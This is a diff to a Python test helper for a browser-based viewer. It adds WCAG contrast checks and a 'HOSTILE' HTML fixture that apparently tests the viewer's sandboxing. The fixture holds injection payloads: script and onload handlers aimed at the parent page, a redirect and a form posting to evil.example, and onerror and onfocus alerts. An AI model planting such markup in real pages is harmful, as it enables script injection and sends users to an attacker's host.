@@ -9,10 +9,19 @@ from typing import TYPE_CHECKING, Any
 import pytest
 
 if TYPE_CHECKING:
-    from collections.abc import Iterator
+    from collections.abc import Iterator, Sequence
     from pathlib import Path
 
 CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+
+HOSTILE = """<html><head><title>{}</title><meta http-equiv="refresh" content="0;url=https://evil.example/">
+<base href="https://evil.example/"><link rel=stylesheet href=x.css><style>* {{ display: none }}</style></head>
+<body onload="parent.document.title = 'taken'"><script>parent.document.title = "taken"; alert(1)</script>
+<p>&lt;/script>&lt;script>alert(1)&lt;/script> \u2028 </script><!-- {} -->
+<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="https://evil.example/"></iframe>
+<form action="https://evil.example/"><input autofocus onfocus=alert(1)><button>send this form now</button></form>
+<img src="https://evil.example/i.png" onerror=alert(1) alt="</script>an image">
+{}</body></html>"""
 
 
 @contextmanager
@@ -80,3 +89,46 @@ class Viewer:
         """Return the text of an element by its id."""
         text: str = self.tab.inner_text(f"#{name}")
         return text
+
+
+def contrast(first: Sequence[float], second: Sequence[float]) -> float:
+    """Return the contrast of two colors by WCAG 2.2, section 1.4.3."""
+    light, dark = sorted((luminance(first), luminance(second)), reverse=True)
+    return (light + 0.05) / (dark + 0.05)
+
+
+def luminance(color: Sequence[float]) -> float:
+    linear = [value / 12.92 if value <= 0.04045 else ((value + 0.055) / 1.055) ** 2.4 for value in color]
+    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
+
+
+# Returns the colors of each text and of what is under it, as shares of red, green and blue.
+COLORS = """(root) => {
+    const canvas = new OffscreenCanvas(1, 1).getContext("2d", {willReadFrequently: true});
+    const read = (color) => {
+        canvas.clearRect(0, 0, 1, 1);
+        canvas.fillStyle = color;
+        canvas.fillRect(0, 0, 1, 1);
+        return [...canvas.getImageData(0, 0, 1, 1).data].map((value) => value / 255);
+    };
+    const under = (element) => {
+        for (let node = element; node; node = node.parentElement) {
+            const color = read(getComputedStyle(node).backgroundColor);
+            if (color[3] === 1) return color;
+        }
+        return [1, 1, 1];
+    };
+    const hasText = (element) => [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim());
+    return [...root.querySelectorAll("body *")].filter((element) => hasText(element) && element.checkVisibility())
+        .map((element) => [element.textContent.trim().slice(0, 40), read(getComputedStyle(element).color),
+            under(element)]);
+}"""
+
+
+def find_low_contrasts(tab: Any) -> list[tuple[str, float]]:
+    """Return the texts of a viewer, and of the page in it, whose contrast is lower than WCAG AA asks for."""
+    outer = tab.evaluate(f"() => ({COLORS})(document)")
+    inner = tab.evaluate(f'() => ({COLORS})(document.getElementById("frame").contentDocument)')
+    assert (len(outer) > 30, len(inner) > 20) == (True, True)
+    low = [(text, contrast(ink[:3], back[:3])) for text, ink, back in outer + inner]
+    return [found for found in low if found[1] < 4.5]
